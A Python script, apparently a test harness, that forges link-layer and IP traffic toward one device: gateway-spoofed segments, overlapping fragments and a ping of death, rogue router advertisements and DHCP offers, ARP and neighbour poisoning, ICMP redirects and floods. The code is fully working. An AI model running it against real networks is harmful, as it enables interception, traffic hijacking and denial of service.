#!/usr/bin/env python3
"""A hostile neighbour: sends forged frames on a link. Standard library only.

usage: hostile.py IFACE DEVICE_MAC MODE [ARGUMENT...]
  spoof GATEWAY_IP PORT DEVICE_IP FLAGS [FIRST LAST]  sends TCP segments with the gateway's address as source to every port
  spoof_udp GATEWAY_IP PORT DEVICE_IP [FIRST LAST]    the same with UDP datagrams
  fragments GATEWAY_IP PORT DEVICE_IP DPORT           tiny, overlapping and atomic fragments
  extensions GATEWAY_IP PORT DEVICE_IP DPORT          chains of IPv6 extension headers
  options GATEWAY_IP PORT DEVICE_IP DPORT             IPv4 options, source routes
  advert                                              router advertisements with a prefix and a default route
  withdraw ROUTER_LL                                  a forged router advertisement that ends the router's lifetime
  offer DEVICE_IP XID                                 unsolicited DHCP offers and acks
  offer6 DEVICE_LL XID                                the same for DHCPv6
  arp VICTIM_IP DEVICE_IP                             claims VICTIM_IP with every form of ARP message, then floods the device
  advertise VICTIM_IP6 DEVICE_IP6                     the same for IPv6, with neighbour advertisements
  claim DEVICE_IP6                                    claims DEVICE_IP6 with neighbour advertisements to all nodes
  shrink MTU                                          answers the device's next IPv6 segments with "packet too big"; needs
                                                      an interface that receives them
  redirect GATEWAY_IP DEVICE_IP                       ICMP redirects
  icmp DEVICE_IP                                      echo, timestamp, errors that quote sessions that do not exist
  garbage COUNT SEED                                  random frames of every ethertype
"""
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def packed(ip):
    return socket.inet_pton(socket.AF_INET6 if ":" in ip else socket.AF_INET, ip)


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(":"))


def ip_packet(src, dst, proto, payload, frag=0, options=b"", ident=1):
    s, d = packed(src), packed(dst)
    if len(s) == 4:
        ihl = 5 + len(options) // 4
        head = struct.pack("!BBHHHBBH4s4s", 0x40 | ihl, 0, ihl * 4 + len(payload), ident, frag, 64, proto, 0, s, d) + options
        head = head[:10] + struct.pack("!H", csum(head)) + head[12:]
        return head + payload
    hops = 255 if proto == 58 else 64
    return struct.pack("!IHBB16s16s", 6 << 28, len(payload), proto, hops, s, d) + payload


def with_sum(src, dst, proto, data, at):
    s, d = packed(src), packed(dst)
    pseudo = s + d + (struct.pack("!BBH", 0, proto, len(data)) if len(s) == 4 else struct.pack("!II", len(data), proto))
    c = csum(pseudo + data)
    return data[:at] + struct.pack("!H", c) + data[at + 2:]


FLAGS = {"F": 1, "S": 2, "R": 4, "P": 8, "A": 16, "U": 32}


def tcp(src, sport, dst, dport, flags, seq=None, ack=None, payload=b""):
    bits = sum(FLAGS[f] for f in flags)
    seq = random.getrandbits(32) if seq is None else seq
    ack = random.getrandbits(32) if ack is None else ack
    seg = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, bits, 8192, 0, 0) + payload
    return with_sum(src, dst, 6, seg, 16)


def udp(src, sport, dst, dport, payload):
    return with_sum(src, dst, 17, struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload, 6)


def icmp6(src, dst, kind, body):
    return with_sum(src, dst, 58, struct.pack("!BBH", kind, 0, 0) + body, 2)


class Link:
    def __init__(self, iface, device):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.sock.bind((iface, 0))
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        self.mac = self.sock.getsockname()[4]
        self.device = mac_bytes(device)
        self.sent = 0

    def frame(self, ethertype, payload, to=None, source=None):
        data = (to or self.device) + (source or self.mac) + struct.pack("!H", ethertype) + payload
        while True:
            try:
                self.sock.send(data)
                break
            except OSError as e:  # the queue is full
                if e.errno != 105:
                    raise
                time.sleep(0.001)
        self.sent += 1
        if self.sent % 512 == 0:
            time.sleep(0.002)  # a real link is slower than this virtual one

    def ip(self, packet, **kw):
        self.frame(0x86DD if packet[0] >> 4 == 6 else 0x0800, packet, **kw)


def spoof(link, gw, port, dev, flags, first="1", last="65535"):
    for dport in range(int(first), int(last) + 1):
        for f in flags.split(","):
            link.ip(ip_packet(gw, dev, 6, tcp(gw, int(port), dev, dport, f)))


def spoof_udp(link, gw, port, dev, first="1", last="65535"):
    for dport in range(int(first), int(last) + 1):
        link.ip(ip_packet(gw, dev, 17, udp(gw, int(port), dev, dport, b"x")))


def fragments(link, gw, port, dev, dport):
    whole = tcp(gw, int(port), dev, int(dport), "S", payload=b"x" * 64)
    if ":" not in dev:
        for ident in range(1, 50):
            # The first fragment has only eight bytes of the TCP header, so that a filter cannot see the flags (RFC 1858).
            link.ip(ip_packet(gw, dev, 6, whole[:8], frag=0x2000, ident=ident))
            link.ip(ip_packet(gw, dev, 6, whole[8:], frag=1, ident=ident))
            # The second fragment overlaps the first one and overwrites its TCP header from byte 8 on (RFC 3128).
            link.ip(ip_packet(gw, dev, 6, whole[:24], frag=0x2000, ident=ident + 1000))
            link.ip(ip_packet(gw, dev, 6, whole[8:], frag=1, ident=ident + 1000))
            link.ip(ip_packet(gw, dev, 6, whole[:24], frag=0x2000, ident=ident + 2000))
            link.ip(ip_packet(gw, dev, 6, b"y" * 64, frag=0x3FFF & 8189, ident=ident + 2000))  # the reassembled packet exceeds 65,535 bytes: the ping of death
        return
    for ident in range(1, 50):
        def fh(off, more):
            return struct.pack("!BBHI", 6, 0, off << 3 | more, ident)
        link.ip(ip_packet(gw, dev, 44, fh(0, 0) + whole))  # atomic, RFC 6946
        link.ip(ip_packet(gw, dev, 44, fh(0, 1) + whole[:8]))
        link.ip(ip_packet(gw, dev, 44, fh(1, 0) + whole[8:]))
        link.ip(ip_packet(gw, dev, 44, fh(0, 1) + whole[:24]))
        link.ip(ip_packet(gw, dev, 44, fh(2, 0) + whole[8:]))


def extensions(link, gw, port, dev, dport):
    seg = tcp(gw, int(port), dev, int(dport), "S")
    pad = b"\1\4\0\0\0\0"
    chains = [
        [(0, pad)], [(60, pad)], [(43, b"\0\0" + b"\0" * 4)], [(43, b"\2\1" + b"\0" * 4)], [(0, pad), (60, pad), (43, b"\0" * 6)],
        [(60, pad)] * 4, [(60, pad)] * 20, [(60, pad), (0, pad)], [(0, b"\xc2\4\0\0\0\0")], [(135, pad)], [(140, pad)], [(51, pad)],
    ]
    for _ in range(20):
        for chain in chains:
            body = seg
            nxt = 6
            for kind, data in reversed(chain):
                body = struct.pack("!BB", nxt, 0) + data + body
                nxt = kind
            link.ip(ip_packet(gw, dev, nxt, body))
        link.ip(ip_packet(gw, dev, 60, struct.pack("!BB", 6, 255) + pad))  # a header that is longer than the packet
        link.ip(ip_packet(gw, dev, 59, seg))


def options(link, gw, port, dev, dport):
    seg = tcp(gw, int(port), dev, int(dport), "S")
    hop = packed(dev)
    for opt in (b"\x83\x07\x04" + hop + b"\0", b"\x89\x07\x04" + hop + b"\0", b"\x07\x07\x04" + hop + b"\0",
                b"\x44\x04\x05\0", b"\x94\x04\0\0", b"\x01\x01\x01\x01", b"\x83\x40\x04\0", b"\x83\x00\x04\0"):
        for _ in range(20):
            link.ip(ip_packet(gw, dev, 6, seg, options=opt))


def link_local(mac):
    m = bytes([mac[0] ^ 2]) + mac[1:]
    return socket.inet_ntop(socket.AF_INET6, b"\xfe\x80" + b"\0" * 6 + m[:3] + b"\xff\xfe" + m[3:])


def advert(link, source=None, lifetime=1800):
    src = source or link_local(link.mac)
    body = struct.pack("!BBHII", 64, 0x00, lifetime, 0, 0)
    body += struct.pack("!BB", 1, 1) + link.mac
    body += struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 86400, 14400, 0, packed("2001:db8:bad::"))
    body += struct.pack("!BBHI16s", 25, 3, 0, 3600, packed("2001:db8:bad::53"))
    for _ in range(5):
        link.ip(ip_packet(src, "ff02::1", 58, icmp6(src, "ff02::1", 134, body)), to=b"\x33\x33\0\0\0\1")
        time.sleep(0.02)


def withdraw(link, router):
    advert(link, source=router, lifetime=0)


def offer(link, dev, xid):
    me = "10.77.0.66" if dev.startswith("10.77.0.") else dev.rsplit(".", 1)[0] + ".66"
    for x in {int(xid, 0), 0, 1, 0xFFFFFFFF} | {random.getrandbits(32) for _ in range(200)}:
        for kind in (2, 5, 6):
            b = struct.pack("!BBBBIHH4s4s4s4s", 2, 1, 6, 0, x, 0, 0, b"\0" * 4, packed(dev), packed(me), b"\0" * 4)
            b += link.device + b"\0" * 10 + b"\0" * 192 + b"\x63\x82\x53\x63"
            b += bytes([53, 1, kind, 54, 4]) + packed(me) + bytes([51, 4, 0, 1, 0, 0, 1, 4, 255, 255, 255, 0])
            b += bytes([3, 4]) + packed(me) + bytes([6, 4]) + packed(me) + b"\xff"
            link.ip(ip_packet(me, dev, 17, udp(me, 67, dev, 68, b)))


def offer6(link, dev_ll, xid):
    me = "fe80::66"
    for x in {int(xid, 0), 0, 1, 0xFFFFFF} | {random.getrandbits(24) for _ in range(50)}:
        for kind in (2, 7, 10):  # Advertise, Reply, Reconfigure
            ia = struct.pack("!IIIHH16sII", 1, 0, 0, 5, 24, packed("fd77::bad"), 3600, 3600)
            body = struct.pack("!I", kind << 24 | x) + struct.pack("!HH", 1, 10) + b"\0\3\0\1\2\0\0\0\0\1"
            body += struct.pack("!HH", 2, 10) + b"\0\3\0\1" + link.mac + struct.pack("!HH", 3, len(ia)) + ia
            link.ip(ip_packet(me, dev_ll, 17, udp(me, 547, dev_ll, 546, body)))


def arp_frame(op, sha, spa, tha, tpa):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, op, sha, packed(spa), tha, packed(tpa))


def arp(link, victim, dev):
    everyone = b"\xff" * 6
    for _ in range(10):
        link.frame(0x0806, arp_frame(2, link.mac, victim, link.device, dev))
        link.frame(0x0806, arp_frame(1, link.mac, victim, b"\0" * 6, dev), to=everyone)
        link.frame(0x0806, arp_frame(1, link.mac, victim, b"\0" * 6, victim), to=everyone)  # gratuitous
        link.frame(0x0806, arp_frame(2, link.mac, victim, everyone, victim), to=everyone)
        # Claims the device's own address. The frame is sent to the device only, so that it does not change the
        # gateway's ARP table.
        link.frame(0x0806, arp_frame(1, link.mac, dev, b"\0" * 6, dev))
    net = dev.rsplit(".", 1)[0]
    for i in range(5000):
        other = bytes([2, 1, 1, 1, i >> 8, i & 255])
        link.frame(0x0806, arp_frame(1, other, "%s.%d" % (net, 1 + i % 254), b"\0" * 6, dev), source=other)


def advertise(link, victim, dev):
    for flags in (0x20, 0x60, 0xE0, 0x00):
        for src in (victim, link_local(link.mac)):
            for dst, to in ((dev, None), ("ff02::1", b"\x33\x33\0\0\0\1")):
                body = struct.pack("!I16s", flags << 24, packed(victim)) + b"\2\1" + link.mac
                link.ip(ip_packet(src, dst, 58, icmp6(src, dst, 136, body)), to=to)
                body = struct.pack("!I16s", 0, packed(dev)) + b"\1\1" + link.mac
                link.ip(ip_packet(src, dst, 58, icmp6(src, dst, 135, body)), to=to)


def claim(link, dev):
    """Sends the frames to the device only, so that they do not change the neighbour tables of other hosts."""
    for flags in (0x00, 0x20):
        for src in (dev, link_local(link.mac)):
            body = struct.pack("!I16s", flags << 24, packed(dev)) + b"\2\1" + link.mac
            link.ip(ip_packet(src, "ff02::1", 58, icmp6(src, "ff02::1", 136, body)))


def shrink(link, mtu):
    everything = 3  # ETH_P_ALL: a port of a bridge receives nothing else
    link.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(everything))
    link.sock.bind((sys.argv[1], everything))
    link.sock.settimeout(20)
    end = time.monotonic() + 20
    while link.sent < 5:
        if time.monotonic() > end:
            sys.exit("no segment of the device")
        frame = link.sock.recv(2048)
        if frame[6:14] != link.device + b"\x86\xdd" or frame[20] != 6:
            continue
        dev, peer = (socket.inet_ntop(socket.AF_INET6, frame[at:at + 16]) for at in (22, 38))
        body = struct.pack("!I", int(mtu)) + frame[14:14 + 1200]
        link.ip(ip_packet(peer, dev, 58, icmp6(peer, dev, 2, body)))


def redirect(link, gw, dev):
    me = "10.77.0.66"
    for src in (gw, me):
        if ":" in gw:
            inner = ip_packet(dev, gw, 6, tcp(dev, 50000, gw, 22, "A"))
            body = struct.pack("!I16s16s", 0, packed(link_local(link.mac)), packed(gw)) + b"\2\1" + link.mac + inner[:0]
            for s in (gw, link_local(link.mac)):
                link.ip(ip_packet(s, dev, 58, icmp6(s, dev, 137, body)))
            return
        inner = ip_packet(dev, gw, 6, tcp(dev, 50000, gw, 22, "A"))[:28]
        for code in range(4):
            body = struct.pack("!BBH4s", 5, code, 0, packed(me)) + inner
            body = body[:2] + struct.pack("!H", csum(body)) + body[4:]
            link.ip(ip_packet(src, dev, 1, body))


def icmp(link, dev):
    me = "10.77.0.66"
    for kind in (0, 8, 13, 15, 17, 3, 11, 12, 4, 9, 10):
        for code in range(4):
            inner = ip_packet(dev, "10.77.0.1", 6, tcp(dev, 50000 + code, "10.77.0.1", 22, "A"))[:28]
            body = struct.pack("!BBHI", kind, code, 0, 0) + inner
            body = body[:2] + struct.pack("!H", csum(body)) + body[4:]
            link.ip(ip_packet(me, dev, 1, body))


def garbage(link, count, seed):
    r = random.Random(int(seed))
    for _ in range(int(count)):
        link.frame(r.choice((0x0800, 0x86DD, 0x0806, 0x8100, 0x88CC, 0x888E, 0x8864, r.getrandbits(16))),
                   bytes(r.getrandbits(8) for _ in range(r.randrange(0, 120))))


def main():
    if len(sys.argv) < 4:
        sys.exit(__doc__)
    link = Link(sys.argv[1], sys.argv[2])
    modes = {f.__name__: f for f in (spoof, spoof_udp, fragments, extensions, options, advert, withdraw, offer, offer6, arp, advertise, claim, shrink,
                                     redirect, icmp, garbage)}
    modes[sys.argv[3]](link, *sys.argv[4:])
    print(link.sent, "frames")


if __name__ == "__main__":
    main()
